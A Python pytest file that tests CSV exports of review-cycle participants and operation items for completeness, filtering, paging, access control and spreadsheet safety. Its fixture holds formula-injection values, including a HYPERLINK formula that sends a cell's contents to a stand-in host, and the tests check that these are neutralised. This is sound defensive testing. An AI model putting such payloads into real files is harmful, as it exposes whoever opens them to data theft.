"""Participants and the items of operations as CSV files: complete, narrowed as the lists are, and safe to open."""

from __future__ import annotations

from typing import TYPE_CHECKING

import pytest

from assessment.api import participants as participants_api
from component.assessment.many_reviews import UNKNOWN, begun, cycle_of, path_of, told, whole
from harness.people import AMY, ANNA, BEN, HELEN, HUGO, MAX, OLGA, Person
from reviewbus import quarantine
from reviewbus.operations import api as operations_api

if TYPE_CHECKING:
    from component.assessment.assessment_service import Running

# Ids and names that are made of what means something to a spreadsheet or to a CSV file, and how they are written.
FORMULA = '=HYPERLINK("http://elsewhere.example?x="&A1,"Anna")'
HOSTILE = {
    "=1+1": (FORMULA, "'=1+1", f"'{FORMULA}"),
    "+49,30": ("Doe, Jane", "'+49,30", "Doe, Jane"),
    "@sum": ("two\nlines\r\nof one", "'@sum", "two\nlines\r\nof one"),
    "-2": ('"quoted"', "'-2", '"quoted"'),
    "p;1": ("\t=1", "p;1", "'\t=1"),
}


@pytest.fixture
def hostile_cycle(service: Running) -> str:
    """A cycle that is not started, of five people whom Max reviews; the directory has them as they are."""
    service.import_cast()
    rows = [
        {"person_id": one, "name": name, "email": f"p{index}@company.example", "manager_id": MAX.id}
        for index, (one, (name, _, _)) in enumerate(HOSTILE.items())
    ]
    assert service.done(service.post(HELEN, "/v1/people/import", {"people": rows}))["problems"] == []
    cycle_id = service.cycle()
    body = {"participants": [{"subject_id": one} for one in HOSTILE]}
    assert service.done(service.post(AMY, f"{_path(cycle_id)}/import", body))["changed"] == len(HOSTILE)
    return cycle_id


def _path(cycle_id: str) -> str:
    return f"/v1/cycles/{cycle_id}/participants"


def test_participants_are_a_file_of_which_no_cell_is_a_formula_or_becomes_two(
    service: Running, hostile_cycle: str
) -> None:
    answer = service.get(AMY, f"{_path(hostile_cycle)}?format=csv&limit=1")
    assert answer.headers["Content-Disposition"] == f'attachment; filename="participants-{hostile_cycle}.csv"'
    lines = service.lines(answer)
    named = {(one["subject_id"], one["subject_name"]) for one in lines}
    assert named == {(written_id, written_name) for _, written_id, written_name in HOSTILE.values()}
    listed = service.done(service.get(AMY, _path(hostile_cycle)))["items"]
    assert [one["review_id"] for one in lines] == [one["review_id"] for one in listed]
    assert {(one["manager_id"], one["manager_name"], one["cancelled"]) for one in lines} == {(MAX.id, MAX.name, "no")}
    assert set(lines[0]) == set(listed[0])


def test_items_are_a_file_of_which_no_cell_is_a_formula_or_becomes_two(service: Running, hostile_cycle: str) -> None:
    service.done(service.post(HELEN, f"/v1/cycles/{hostile_cycle}/start"))
    while service.work():
        pass
    plan = begun(service, selection={"filter": {"cycle_id": hostile_cycle}}, dry_run=True)
    service.work()
    lines = service.lines(service.get(HELEN, path_of(plan, "/items?format=csv")))
    assert {one["subject_id"] for one in lines} == {written_id for _, written_id, _ in HOSTILE.values()}
    assert {one["outcome"] for one in lines} == {"allowed"}
    service.done(service.post(HELEN, path_of(plan, "/cancel")))


def test_a_narrowed_file_has_the_lines_of_the_narrowed_list(service: Running, hostile_cycle: str) -> None:
    one = next(iter(HOSTILE))
    body = {"participants": [{"subject_id": one, "manager_id": HUGO.id}]}
    service.done(service.post(AMY, f"{_path(hostile_cycle)}/import", body))
    for query, count in ((f"manager_id={HUGO.id}", 1), (f"manager_id={MAX.id}", 4), ("without_manager=true", 0)):
        lines = service.lines(service.get(AMY, f"{_path(hostile_cycle)}?format=csv&{query}"))
        listed = service.done(service.get(AMY, f"{_path(hostile_cycle)}?{query}"))["items"]
        assert [each["review_id"] for each in lines] == [each["review_id"] for each in listed]
        assert len(lines) == count


def test_items_are_written_with_every_reason_and_narrowed_by_outcome(service: Running) -> None:
    reviews = told(service)
    operation_id = begun(service, selection={"review_ids": [reviews[ANNA], reviews[BEN], UNKNOWN]})
    service.work()
    answer = service.get(HELEN, path_of(operation_id, "/items?format=csv"))
    assert answer.headers["Content-Disposition"] == f'attachment; filename="operation-{operation_id}.csv"'
    lines = service.lines(answer)
    listed = service.done(service.get(HELEN, path_of(operation_id, "/items")))["items"]
    assert lines == [
        {
            "review_id": one["review_id"],
            "subject_id": one["subject_id"] or "",
            "outcome": one["outcome"],
            "unmet": " ".join(each["code"] for each in one["unmet"]),
            "why": " ".join(each["detail"] for each in one["unmet"]),
            "decided_at": one["decided_at"],
        }
        for one in listed
    ]
    skipped = service.lines(service.get(HELEN, path_of(operation_id, "/items?format=csv&outcome=skipped")))
    assert {(one["subject_id"], one["unmet"]) for one in skipped} == {(ANNA.id, "already-shared"), ("", "not-found")}
    assert all(one["why"].endswith(".") for one in skipped)


def test_a_file_of_many_pages_has_no_gap_and_no_repetition(service: Running, monkeypatch: pytest.MonkeyPatch) -> None:
    reviews = told(service)
    cycle_id = cycle_of(service, reviews)
    plan = begun(service, selection=whole(service, reviews), dry_run=True)
    service.work()
    for path in (path_of(plan, "/items"), _path(cycle_id)):
        at_once = service.lines(service.get(HELEN, f"{path}?format=csv"))
        with monkeypatch.context() as patch:
            patch.setattr(operations_api, "PAGE_ROWS", 2)
            patch.setattr(participants_api, "PAGE_ROWS", 2)
            assert service.lines(service.get(HELEN, f"{path}?format=csv")) == at_once
        assert len({one["review_id"] for one in at_once}) == len(at_once) >= 7
    service.done(service.post(HELEN, path_of(plan, "/cancel")))


def test_nobody_finds_the_own_review_in_a_file_of_items(service: Running) -> None:
    reviews = told(service)
    alone = begun(service, action="cancel", selection={"review_ids": [reviews[HUGO]]})
    both = begun(service, action="cancel", selection={"review_ids": [reviews[HUGO], reviews[OLGA]]})
    while service.work():
        pass
    lines = service.lines(service.get(HUGO, path_of(both, "/items?format=csv")))
    assert [one["subject_id"] for one in lines] == [OLGA.id]
    answer = service.get(HUGO, path_of(alone, "/items?format=csv"))
    assert (answer.status_code, answer.get_json()["code"]) == (404, "not-found")


@pytest.mark.parametrize("who", [ANNA, MAX, OLGA], ids=lambda one: one.id)
def test_whoever_may_not_see_it_is_refused_before_the_file_begins(service: Running, who: Person) -> None:
    reviews = told(service)
    plan = begun(service, selection=whole(service, reviews), dry_run=True)
    service.work()
    for reader, path, status, code in (
        (who, path_of(plan, "/items"), 404, "not-found"),
        (AMY, path_of(plan, "/items"), 404, "not-found"),
        (HELEN, path_of(UNKNOWN, "/items"), 404, "not-found"),
        (who, _path(cycle_of(service, reviews)), 403, "forbidden-role"),
        (AMY, _path(UNKNOWN), 404, "not-found"),
    ):
        answer = service.get(reader, f"{path}?format=csv")
        assert (answer.status_code, answer.get_json()["code"]) == (status, code)
    service.done(service.post(HELEN, path_of(plan, "/cancel")))


def test_another_form_and_a_restored_database_are_refused(service: Running) -> None:
    reviews = told(service)
    plan = begun(service, selection=whole(service, reviews), dry_run=True)
    service.work()
    paths = (path_of(plan, "/items"), _path(cycle_of(service, reviews)))
    for path in paths:
        answer = service.get(HELEN, f"{path}?format=xlsx")
        assert (answer.status_code, answer.get_json()["code"]) == (422, "invalid-request")
    with service.service.db.begin() as tx:
        quarantine.begin(tx)
    try:
        assert [service.get(HELEN, f"{path}?format=csv").status_code for path in paths] == [503, 503]
    finally:
        with service.service.db.begin() as tx:
            quarantine.lift(tx)
    service.done(service.post(HELEN, path_of(plan, "/cancel")))
